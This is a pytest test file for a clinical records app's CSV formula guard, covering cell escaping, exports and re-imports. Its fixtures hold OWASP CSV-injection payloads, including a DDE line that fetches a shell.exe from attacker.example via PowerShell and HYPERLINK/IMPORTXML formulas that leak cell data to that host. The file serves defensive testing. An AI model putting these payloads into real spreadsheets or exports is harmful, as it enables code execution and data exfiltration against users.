"""The one spreadsheet formula guard (issue 9, item 13): OWASP's CSV-injection payloads, their
full-width forms and leading Unicode spaces, for single cells, whole tables and record exports.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import unicodedata

import pandas as pd
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from data.access import Actor
from data.infusions import InfusionInput, record_infusion
from data.interchange.csv_export import export_infusions_csv
from data.interchange.csv_infusions import import_infusions_csv
from data.models import Clinic, Infusion
from data.spreadsheet import FORMULA_TRIGGERS, frame_to_csv, guard_cell, restore_cell
from tests.conftest import World

# OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection), and the
# payloads its examples cite: DDE, HYPERLINK exfiltration, IMPORTXML, and a tab or CR first.
OWASP_PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: please click for details")',
    '=IMPORTXML(CONCAT("http://attacker.example/", A1), "//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
UNICODE_FORMS = [
    "\uff1d1+1",  # FULLWIDTH EQUALS SIGN
    "\uff0bcmd|' /C calc'!A0",  # FULLWIDTH PLUS SIGN
    "\uff0d2+3",  # FULLWIDTH HYPHEN-MINUS
    "\uff20SUM(1+1)",  # FULLWIDTH COMMERCIAL AT
    "\ufe661+1",  # SMALL EQUALS SIGN
    "\u00a0=1+1",  # a non-breaking space first
    " =1+1",
    "\u3000=1+1",  # IDEOGRAPHIC SPACE
    "\u2003\u2009+1",  # EM SPACE, THIN SPACE
    "\u200b=1+1",  # ZERO WIDTH SPACE
    "\ufeff=1+1",  # a byte-order mark
    "\n=1+1",
]
HARMLESS = ["MRN-1", "", " ", "Ann Lee", "1-2", "a=b", "José", "\u00a0text", "3"]


def _starts_a_formula(cell: str) -> bool:
    """What a spreadsheet would see: leading spaces and invisible characters skipped,
    full-width forms read as ASCII."""
    for character in cell:
        if unicodedata.normalize("NFKC", character) in FORMULA_TRIGGERS:
            return True
        if not (character.isspace() or unicodedata.category(character) in ("Cc", "Cf")):
            return False
    return False


@pytest.mark.parametrize("payload", OWASP_PAYLOADS + UNICODE_FORMS)
def test_formula_payloads_get_an_apostrophe_and_restore_exactly(payload: str) -> None:
    guarded = guard_cell(payload)
    assert guarded == "'" + payload
    assert restore_cell(guarded) == payload


@pytest.mark.parametrize("cell", HARMLESS)
def test_harmless_text_is_unchanged(cell: str) -> None:
    assert guard_cell(cell) == cell
    assert restore_cell(cell) == cell


@pytest.mark.parametrize("value", [-2, -1.5, 0, None, True, dt.date(2025, 1, 6), pd.NA])
def test_values_that_are_not_text_are_unchanged(value: object) -> None:
    assert guard_cell(value) is value


def test_an_apostrophe_in_the_data_is_doubled_so_the_round_trip_is_exact() -> None:
    assert guard_cell("'=already") == "''=already"
    assert restore_cell("''=already") == "'=already"
    assert restore_cell("'quoted") == "'quoted"  # not one we added: kept


def test_frame_to_csv_guards_every_text_cell_and_column_name() -> None:
    frame = pd.DataFrame(
        {
            "=HYPERLINK(1)": ["x", "y", "z"],
            "detail": ["\uff1dcmd|' /C calc'!A0", "\u00a0@SUM(1)", "ok"],
            "category": pd.Series(["-1+1", "b", "c"], dtype="category"),
            "count": [-1, 2, 3],
            "at": pd.to_datetime(["2025-01-06T10:00Z"] * 3, utc=True),
        }
    )
    text = frame_to_csv(frame)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=HYPERLINK(1)", "detail", "category", "count", "at"]
    assert [row[1] for row in rows[1:]] == ["'\uff1dcmd|' /C calc'!A0", "'\u00a0@SUM(1)", "ok"]
    assert rows[1][2] == "'-1+1" and rows[1][3] == "-1"  # a number stays a number
    text_cells = [cell for row in rows for cell in row[:3]]
    assert not [cell for cell in text_cells if _starts_a_formula(cell)]
    assert text.endswith("\n") and "\r" not in text


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row() -> None:
    """Python's writer leaves a lone CR unquoted; a spreadsheet would break the row there
    and read "=cmd..." as the start of a cell."""
    frame = pd.DataFrame({"note": ["fine\r=cmd|' /C calc'!A0", "other"]})
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame), newline="")))
    assert rows == [["note"], ["fine\r=cmd|' /C calc'!A0"], ["other"]]


def test_an_export_with_formula_notes_is_guarded_and_reimports_unchanged(
    session: Session, world: World
) -> None:
    notes = [*OWASP_PAYLOADS, *UNICODE_FORMS[:5], "note\r=1+1", "'=already"]
    for days, note in enumerate(notes):  # a day apart: not near-duplicates
        record_infusion(
            session,
            actor=world.clinician_a,
            patient_id=world.patient_a1.patient_id or 0,
            infusion=InfusionInput(
                administered_at=dt.datetime(2025, 1, 6, tzinfo=dt.UTC) + dt.timedelta(days=days),
                route="iv",
                dose_mg=35.0,
                side_effects_note=note,
            ),
        )
    out = io.StringIO()
    export_infusions_csv(session, actor=world.system_a, out=out)
    exported = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(exported) == len(notes)
    assert not [row for row in exported for cell in row.values() if _starts_a_formula(cell)]

    empty = Clinic(name="Clinic C")
    session.add(empty)
    session.flush()
    import_infusions_csv(
        session,
        actor=Actor.system(empty.id),
        source=io.StringIO(out.getvalue(), newline=""),
        create_patients=True,
    )
    copied = session.scalars(
        select(Infusion.side_effects_note)
        .where(Infusion.clinic_id == empty.id)
        .order_by(Infusion.administered_at)
    ).all()
    # Exact, leading spaces and tabs included; the importer strips a cell's surrounding spaces
    # (as it always has) only where no apostrophe protects them.
    assert list(copied) == [note if guard_cell(note) != note else note.strip() for note in notes]
